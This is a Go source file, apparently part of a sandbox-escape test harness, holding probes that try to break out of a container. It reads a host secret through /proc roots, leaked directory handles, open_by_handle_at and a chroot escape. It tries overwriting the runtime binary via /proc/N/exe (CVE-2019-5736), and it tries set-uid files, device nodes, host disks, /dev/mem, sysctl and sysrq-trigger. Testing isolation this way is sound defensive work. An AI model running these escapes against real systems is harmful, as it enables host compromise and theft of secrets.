package main

import (
	"bytes"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strconv"

	"activator/test/escape/wire"

	"golang.org/x/sys/unix"
)

// What can be done through the file system.
func fileProbes() []probe {
	const file = "a file of the host read that is not to be seen inside"
	var all []probe
	add := func(name, tries, means, witness string, run func(*mission) (string, error)) {
		all = append(all, probe{wire.Probe{Name: name, Group: "files", Tries: tries, Means: means, Witness: witness}, run})
	}
	add("host-file", "open() of its path", file, wire.WitnessSecret, hostFile)
	add("proc-root", "/proc/N/root and /proc/N/cwd of every process", file, wire.WitnessSecret, procRoot)
	add("leaked-directory", "openat() on every open directory: one was left open in the starter", file, wire.WitnessSecret, leakedDirectory)
	add("handle", "open_by_handle_at() with every mount it sees", file, wire.WitnessSecret, byHandle)
	add("chroot", "chroot() into a folder, then fchdir() and .. out of it", file, wire.WitnessSecret, breakChroot)
	add("stdio-reopen", "/proc/self/fd/1 opened again for reading: the log file", "what others wrote to the log is read", wire.WitnessSecret, reopenOutput(unix.O_RDWR))
	add("self-exe", "its own or its starter's program, written through /proc/N/exe or replaced", "the program on the host is another", wire.WitnessHost, replaceProgram)
	add("write-host", "a file made in /, /etc, /usr, /usr/bin and in the program's folder", "the host has the file", wire.WitnessHost, writeHost)
	add("set-uid", "a set-uid program made where it can write, other than in memory", "the host would honour it: no nosuid, and not gone with us", wire.WitnessKernel, setUID)
	add("mknod", "a device node (1,3) made and opened", "the node works", wire.WitnessKernel, makeNode)
	add("device", "the host's disks and memory in /dev opened", "open for reading", wire.WitnessKernel, openDevices)
	add("sysctl", "/proc/sys/kernel/printk written with what it says", "the kernel takes it", wire.WitnessKernel, writeSysctl)
	add("sysrq", "/proc/sysrq-trigger opened for writing", "open", wire.WitnessKernel, openSysrq)
	add("sys-write", "khugepaged/defrag in /sys/kernel/mm written with what it says", "the kernel takes it", wire.WitnessKernel, writeSys)
	add("device-mode", "chmod() of /dev/full to the mode that it has", "the host's node is changed", wire.WitnessKernel, func(*mission) (string, error) {
		return "changed it", at("chmod", unix.Fchmodat(unix.AT_FDCWD, "/dev/full", 0o666, 0))
	})
	add("device-times", "utimensat() of /dev/full", "the host's node is changed", wire.WitnessKernel, func(*mission) (string, error) {
		return "changed it", at("utimensat", unix.UtimesNanoAt(unix.AT_FDCWD, "/dev/full", nil, 0))
	})
	add("lease", "F_SETLEASE on a file of the host's, its own program", "who opens it for writing waits", wire.WitnessKernel, func(*mission) (string, error) {
		return askFile("/proc/self/exe", unix.F_SETLEASE, unix.F_RDLCK)
	})
	add("dnotify", "F_NOTIFY on /etc and /usr", "it hears what the host does there", wire.WitnessKernel, func(*mission) (string, error) {
		const access = 1 // DN_ACCESS
		how, err := askFile("/etc", unix.F_NOTIFY, access)
		if err != nil {
			how, err = askFile("/usr", unix.F_NOTIFY, access)
		}
		return how, err
	})
	return all
}

// askFile asks for something by fcntl(2), and gives it back.
func askFile(path string, command, argument int) (string, error) {
	fd, err := unix.Open(path, unix.O_RDONLY, 0)
	if err != nil {
		return "", at("open "+path, err)
	}
	defer unix.Close(fd)
	_, err = unix.FcntlInt(uintptr(fd), command, argument)
	return "granted for " + path, at("fcntl", err)
}

const secretSize = 32 // characters

// readSecret reads the secret from an open file.
func (m *mission) readSecret(fd int) error {
	text := make([]byte, 4096)
	n, err := unix.Pread(fd, text, 0)
	if err != nil {
		return at("read", err)
	}
	m.proof = string(bytes.TrimSpace(text[:n]))
	return nil
}

// readSecretAt reads the host's file from a folder of the host, or from any
// folder above it.
func (m *mission) readSecretAt(dir int, where string) (string, error) {
	var last error
	for range 16 {
		fd, err := unix.Openat(dir, "."+m.File, unix.O_RDONLY|unix.O_CLOEXEC, 0)
		if err == nil {
			return "read " + where + m.File, m.readSecret(fd)
		}
		last = err
		if dir, err = unix.Openat(dir, "..", unix.O_PATH|unix.O_CLOEXEC, 0); err != nil {
			break
		}
	}
	return "", at("openat from "+where, last)
}

func hostFile(m *mission) (string, error) {
	fd, err := unix.Open(m.File, unix.O_RDONLY, 0)
	if err != nil {
		return "", at("open", err)
	}
	return "read it", m.readSecret(fd)
}

func procRoot(m *mission) (string, error) {
	last := errors.New("no other process to be seen")
	for _, pid := range others() {
		for _, link := range []string{"root", "cwd"} {
			dir, err := unix.Open(fmt.Sprintf("/proc/%s/%s", pid, link), unix.O_PATH, 0)
			if err != nil {
				last = at("open /proc/"+pid+"/"+link, err)
				continue
			}
			how, err := m.readSecretAt(dir, "/proc/"+pid+"/"+link)
			unix.Close(dir)
			if err == nil {
				return how, nil
			}
			last = err
		}
	}
	return "", last
}

// others are the processes to be seen: 1, the starter, then up to a thousand.
func others() []string {
	all, _ := filepath.Glob("/proc/[0-9]*")
	pids := []string{"1", strconv.Itoa(unix.Getppid()), "thread-self"}
	for _, path := range all[:min(len(all), 1000)] {
		if pid := filepath.Base(path); pid != strconv.Itoa(os.Getpid()) {
			pids = append(pids, pid)
		}
	}
	return pids
}

func leakedDirectory(m *mission) (string, error) {
	last := errors.New("no directory is open")
	for fd := range 256 {
		var s unix.Stat_t
		if unix.Fstat(fd, &s) != nil || s.Mode&unix.S_IFMT != unix.S_IFDIR {
			continue
		}
		how, err := m.readSecretAt(fd, "fd "+strconv.Itoa(fd))
		if err == nil {
			return how, nil
		}
		last = err
	}
	return "", last
}

// byHandle is the "shocker": a handle names a file of a file system, whatever of
// it is mounted.
func byHandle(m *mission) (string, error) {
	program, _ := os.Readlink("/proc/self/exe")
	last := errors.New("no mount")
	for _, path := range []string{"/", "/usr", "/etc", filepath.Dir(program), program} {
		mount, err := unix.Open(path, unix.O_RDONLY|unix.O_CLOEXEC, 0)
		if err != nil {
			last = at("open", err)
			continue
		}
		fd, err := unix.OpenByHandleAt(mount, unix.NewFileHandle(m.HandleType, m.Handle), unix.O_RDONLY)
		if err == nil {
			return "read it by its handle on " + path, m.readSecret(fd)
		}
		last = at("open_by_handle_at", err)
	}
	return "", last
}

func breakChroot(m *mission) (string, error) {
	dir, err := os.MkdirTemp("/tmp", "intruder")
	if err != nil {
		return "", err
	}
	defer os.Remove(dir)
	root, err := unix.Open("/", unix.O_RDONLY|unix.O_DIRECTORY, 0)
	if err != nil {
		return "", at("open", err)
	}
	if err := unix.Chroot(dir); err != nil {
		return "", at("chroot", err)
	}
	if err := unix.Fchdir(root); err != nil {
		return "", at("fchdir", err)
	}
	how, err := m.readSecretAt(unix.AT_FDCWD, "outside the chroot")
	_ = unix.Chroot(".") // so that dir can be removed
	return how, err
}

// replaceProgram is CVE-2019-5736: a program that is running cannot be written,
// but its folder may be, and a runtime that has gone on to another program can.
func replaceProgram(*mission) (string, error) {
	for _, pid := range []string{"self", "1", strconv.Itoa(unix.Getppid())} {
		path := "/proc/" + pid + "/exe"
		if fd, err := unix.Open(path, unix.O_WRONLY, 0); err == nil {
			_, err = unix.Pwrite(fd, []byte("#!"), 0)
			return "wrote " + path, at("write", err)
		}
	}
	path, err := unixReadlink("/proc/self/exe")
	if err != nil {
		return "", err
	}
	fd, err := unix.Open(path+".new", unix.O_WRONLY|unix.O_CREAT|unix.O_EXCL, 0o755)
	if err != nil {
		return "", at("create beside the program", err)
	}
	_, _ = unix.Write(fd, []byte("#!"))
	return "replaced " + path, at("rename", unix.Rename(path+".new", path))
}

func unixReadlink(path string) (string, error) {
	text := make([]byte, 4096)
	n, err := unix.Readlink(path, text)
	if err != nil {
		return "", at("readlink", err)
	}
	return string(text[:n]), nil
}

func writeHost(m *mission) (string, error) {
	last := errors.New("nowhere")
	for _, dir := range []string{"/usr/bin", "/usr", "/etc", "/", filepath.Dir(m.File)} {
		path := filepath.Join(dir, "intruder-"+m.Nonce) // the harness looks for it, and removes it
		fd, err := unix.Open(path, unix.O_WRONLY|unix.O_CREAT|unix.O_EXCL, 0o644)
		if err == nil {
			unix.Close(fd)
			return "made a file in " + dir, nil
		}
		last = at("create in "+dir, err)
	}
	return "", last
}

// setUID wants a place that is not gone with us and has no nosuid.
func setUID(m *mission) (string, error) {
	last := errors.New("nowhere")
	for _, dir := range []string{"/var/tmp", "/tmp", "/dev/shm", "/run", "/var", "/var/lib", filepath.Dir(m.File), "."} {
		path := filepath.Join(dir, "intruder-"+m.Nonce)
		fd, err := unix.Open(path, unix.O_WRONLY|unix.O_CREAT|unix.O_EXCL, 0o755)
		if err != nil {
			last = at("create in "+dir, err)
			continue
		}
		var s unix.Statfs_t
		var file unix.Stat_t
		err = errors.Join(unix.Fchmod(fd, 0o4755), unix.Fstat(fd, &file), unix.Fstatfs(fd, &s))
		unix.Close(fd)
		_ = unix.Unlink(path)
		switch {
		case err != nil:
			last = at("chmod in "+dir, err)
		case file.Mode&unix.S_ISUID == 0 || s.Flags&unix.ST_NOSUID != 0:
			last = errors.New(dir + " has nosuid")
		case s.Type == unix.TMPFS_MAGIC:
			last = errors.New(dir + " is gone with us")
		default:
			return "a set-uid file in " + dir, nil
		}
	}
	return "", last
}

func makeNode(m *mission) (string, error) {
	path := filepath.Join("/tmp", "intruder-"+m.Nonce)
	if err := unix.Mknod(path, unix.S_IFCHR|0o666, int(unix.Mkdev(1, 3))); err != nil {
		return "", at("mknod", err)
	}
	defer unix.Unlink(path)
	fd, err := unix.Open(path, unix.O_WRONLY, 0)
	if err != nil {
		return "", at("open", err)
	}
	_, err = unix.Write(fd, []byte("x"))
	return "wrote to a new device node", at("write", err)
}

func openDevices(*mission) (string, error) {
	last := errors.New("none to be seen")
	for _, pattern := range []string{"/dev/[svx]d*", "/dev/vd*", "/dev/nvme*", "/dev/dm-*", "/dev/mem", "/dev/kmsg", "/dev/loop*"} {
		paths, _ := filepath.Glob(pattern)
		for _, path := range paths {
			fd, err := unix.Open(path, unix.O_RDONLY|unix.O_NONBLOCK, 0)
			if err == nil {
				unix.Close(fd)
				return "opened " + path, nil
			}
			last = at("open "+path, err)
		}
	}
	return "", last
}

// writeBack writes to a file of the kernel what it says.
func writeBack(path string) (string, error) {
	fd, err := unix.Open(path, unix.O_RDWR, 0)
	if err != nil {
		return "", at("open "+path, err)
	}
	text := make([]byte, 256)
	n, err := unix.Read(fd, text)
	if err != nil {
		return "", at("read", err)
	}
	_, err = unix.Pwrite(fd, text[:n], 0)
	return "wrote " + path, at("write", err)
}

func writeSysctl(*mission) (string, error) { return writeBack("/proc/sys/kernel/printk") }

func writeSys(*mission) (string, error) {
	return writeBack("/sys/kernel/mm/transparent_hugepage/khugepaged/defrag")
}

func openSysrq(*mission) (string, error) {
	fd, err := unix.Open("/proc/sysrq-trigger", unix.O_WRONLY, 0)
	if err != nil {
		return "", at("open", err)
	}
	return "could crash the machine", unix.Close(fd)
}
